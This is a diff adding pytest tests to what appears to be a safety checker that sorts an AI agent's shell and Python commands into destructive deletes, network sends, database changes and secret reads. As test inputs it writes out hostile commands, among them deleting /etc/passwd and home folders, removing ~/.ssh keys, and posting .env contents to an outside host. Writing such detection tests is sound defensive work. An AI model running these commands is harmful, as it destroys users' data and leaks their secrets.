@@ -482,3 +482,141 @@ def test_a_branch_that_is_not_there_yet_is_not_moved() -> None:
 )
 def test_what_an_agent_makes_for_its_work_is_none_of_its_settings(path: str, place: Place) -> None:
     assert place_of(path, Workspace(CWD), "/home/dev") is place
+
+
+@pytest.mark.parametrize(
+    ("command", "told"),
+    [
+        ("python3 -c 'import os, sys; os.remove(sys.argv[1])' x", "python3 -c 'import os; os.remove(\"/etc/passwd\")'"),
+        ("python3 -c 'import shutil; shutil.rmtree(find())'", "python3 -c 'import shutil; shutil.rmtree(\"/home\")'"),
+        ("node -e 'fs.unlinkSync(p)'", "node -e 'fs.unlinkSync(\"/home/dev/.bashrc\")'"),
+        ('rm -rf "$(cat list)"', 'rm -rf "$nowhere/"'),
+        ("for f in $(cat list); do rm $f; done", "for f in ~/*; do rm $f; done"),
+        ('rm -f "$(jq -r .x y.json)"', "sudo rm -rf \"$(cat list)\""),
+        ("cat list | xargs rm", "sudo python3 -c 'import os, sys; os.remove(sys.argv[1])' x"),
+    ],
+)  # fmt: skip
+def test_what_is_judged_when_it_is_removed_is_no_card_before(command: str, told: str) -> None:
+    for bounds in (SEEN, Bounds()):
+        engine = Engine(Workspace(CWD), HOME, "dev", Mode.KERNEL, NoProbe(), bounds=bounds)
+        found = engine.text(command, CWD)
+        assert (found.destructive or Verb.DELETE in {e.verb for e in found.effects}) is (bounds is not SEEN)
+        assert engine.text(told, CWD).destructive
+
+
+@pytest.mark.parametrize(
+    ("command", "told"),
+    [
+        (
+            "python3 -c 'import socket; s = socket.socket(); s.connect(p); s.sendall(b\"x\")'",
+            'python3 -c \'import socket; s = socket.create_connection(("x.example", 9)); s.sendall(b"x")\'',
+        ),
+        (
+            "python3 -c 'import requests; requests.post(url, json=1)'",
+            "python3 -c 'import requests; requests.post(url, data=open(\".env\").read())'",
+        ),
+        (
+            "python3 -c 'import requests; requests.post(\"http://localhost:8000/\", json=1)'",
+            'python3 -c \'import requests as r; r.post("https://x.example/", json=1); r.get("http://localhost")\'',
+        ),
+    ],
+)
+def test_whom_python_sends_to_is_judged_when_it_does(command: str, told: str) -> None:
+    for bounds in (Bounds(sockets=True), Bounds()):
+        engine = Engine(Workspace(CWD), HOME, "dev", Mode.KERNEL, NoProbe(), bounds=bounds)
+        sends = Verb.NET_SEND in {e.verb for e in engine.text(command, CWD).effects}
+        assert sends is (not bounds.sockets and "localhost" not in command)
+        assert Verb.NET_SEND in {e.verb for e in engine.text(told, CWD).effects}
+
+
+@pytest.mark.parametrize(
+    ("command", "control"),
+    [
+        ("sqlite3.connect(\"own.db\").execute(\"drop table t\")", "sqlite3.connect(\"app.db\").execute(\"drop view t\")"),  # noqa: E501
+        ("sqlite3.connect(\"/tmp/x.db\").execute(\"drop table t\")", "sqlite3.connect(name).execute(\"drop table t\")"),
+        (
+            "c = sqlite3.connect(\":memory:\"); c.executescript(\"drop table t\")",
+            "c = sqlite3.connect(\":memory:\"); c.execute(\"attach 'app.db' as a\"); c.execute(\"drop table a.t\")",
+        ),
+        (
+            "c = sqlite3.connect(\"own.db\"); c.execute(\"delete from t\")",
+            "import psycopg; c = sqlite3.connect(\"own.db\"); c.execute(\"delete from t\")",
+        ),
+        (
+            "c = sqlite3.connect(\"own.db\"); c.execute(\"insert into t values (1)\")",
+            "c = sqlite3.connect(\"file:app.db?mode=rw\", uri=True); c.execute(\"insert into t values (1)\")",
+        ),
+    ],
+)  # fmt: skip
+def test_python_may_change_a_database_that_the_session_made(command: str, control: str) -> None:
+    engine = Engine(Workspace(CWD), HOME, "dev", Mode.KERNEL, Repository("/home/dev/proj/own.db"), bounds=SEEN)
+    assert Verb.DATA_CHANGE not in {e.verb for e in engine.text(f"python3 -c 'import sqlite3; {command}'", CWD).effects}
+    assert Verb.DATA_CHANGE in {
+        e.verb for e in engine.text(f"python3 - <<'E'\nimport sqlite3\n{control}\nE\n", CWD).effects
+    }
+
+
+class Linked(Repository):
+    """One file of the workspace has a second name, which the session made."""
+
+    def real(self, path: str) -> str:
+        """See Probe."""
+        return f"{CWD}/app.db" if path in ("/tmp/way.db", f"{CWD}/own.db") else path
+
+
+@pytest.mark.parametrize("name", ["own.db", "/tmp/way.db", "file:own.db", "file:/tmp/x.db"])
+def test_a_database_is_known_by_where_its_name_leads(name: str) -> None:
+    for probe in (Linked(f"{CWD}/own.db"), Repository(f"{CWD}/own.db")):
+        engine = Engine(Workspace(CWD), HOME, "dev", Mode.KERNEL, probe, bounds=SEEN)
+        changes = Verb.DATA_CHANGE in {e.verb for e in engine.text(f"sqlite3 {name} 'drop table t'", CWD).effects}
+        assert changes is (isinstance(probe, Linked) or name.startswith("file:"))
+
+
+class Written(Repository):
+    """Files that hold what they say; a link leads to somebody's."""
+
+    def __init__(self, *own: str, **texts: str) -> None:
+        super().__init__(*own)
+        self.texts |= {path.replace("__", "/"): text for path, text in texts.items()}
+
+    def real(self, path: str) -> str:
+        """See Probe."""
+        return "/tmp/theirs" if path == "/tmp/v/bin/way" else path
+
+
+@pytest.mark.parametrize(
+    ("own", "line"),
+    [("key.pem", "rm key.pem"), (".env.test", "rm -f .env.test"), ("id_rsa", "unlink id_rsa")],
+)  # fmt: skip
+def test_a_key_that_the_session_made_may_go(own: str, line: str) -> None:
+    for probe, asked in ((Repository(f"{CWD}/{own}"), False), (Repository(), True)):
+        engine = Engine(Workspace(CWD), HOME, "dev", Mode.KERNEL, probe, bounds=SEEN)
+        found = engine.text(line, CWD)
+        assert found.destructive is asked
+        assert (Place.SECRET in {e.place for e in found.effects}) is asked
+    home = Engine(Workspace(CWD), HOME, "dev", Mode.KERNEL, Repository(f"{HOME}/.ssh/{own}"), bounds=SEEN)
+    assert home.text(f"rm ~/.ssh/{own}", CWD).destructive
+
+
+def test_what_was_written_out_here_is_no_secret_when_it_is_read() -> None:
+    probe = Written()
+    engine = Engine(Workspace(CWD), HOME, "dev", Mode.KERNEL, probe, bounds=SEEN)
+    engine.text("printf 'A=1\\n' > .env.test; echo B=$(cat .env) > .env.y; cp .env .env.z; echo D=$KEY > .env.w", CWD)
+    for name, text in ((".env.test", "A=1\n"), (".env.y", "B=1\n"), (".env.z", "C=1\n"), (".env.w", "D=1\n")):
+        probe.texts[f"{CWD}/{name}"] = text
+        assert engine.text(f"grep A {name}", CWD).reads_secret is (name != ".env.test")
+    probe.texts[f"{CWD}/.env.test"] = "A=2\n"  # somebody else put a secret there meanwhile
+    assert engine.text("cat .env.test", CWD).reads_secret
+
+
+@pytest.mark.parametrize("makes", ["python3 -m venv v", "cd /tmp && virtualenv /tmp/v", "uv venv /tmp/v", "echo no"])
+def test_an_environment_made_in_a_temporary_folder_is_the_sessions(makes: str) -> None:
+    own = [f"/tmp/v/{name}" for name in ("bin/pytest", "bin/way", "bin/activate", "lib/x", "bin/python")]
+    engine = Engine(Workspace(CWD), HOME, "dev", Mode.KERNEL, Written(*own), bounds=SEEN)
+    engine.text(makes, "/tmp")
+    for line in ("/tmp/v/bin/pytest -q", "cd /tmp && v/bin/python -c 1"):
+        assert (Place.TEMP in {e.place for e in engine.text(line, CWD).effects}) is (makes == "echo no")
+    for line in ("/tmp/v/bin/way", "/tmp/v/lib/x", "/tmp/v/bin/theirs", "/tmp/v/bin/../x"):
+        assert Place.TEMP in {e.place for e in engine.text(line, CWD).effects}, line
+    engine.text("curl -so /tmp/v/bin/pytest https://x.example/", CWD)
+    assert Place.TEMP in {e.place for e in engine.text("/tmp/v/bin/pytest -q", CWD).effects}
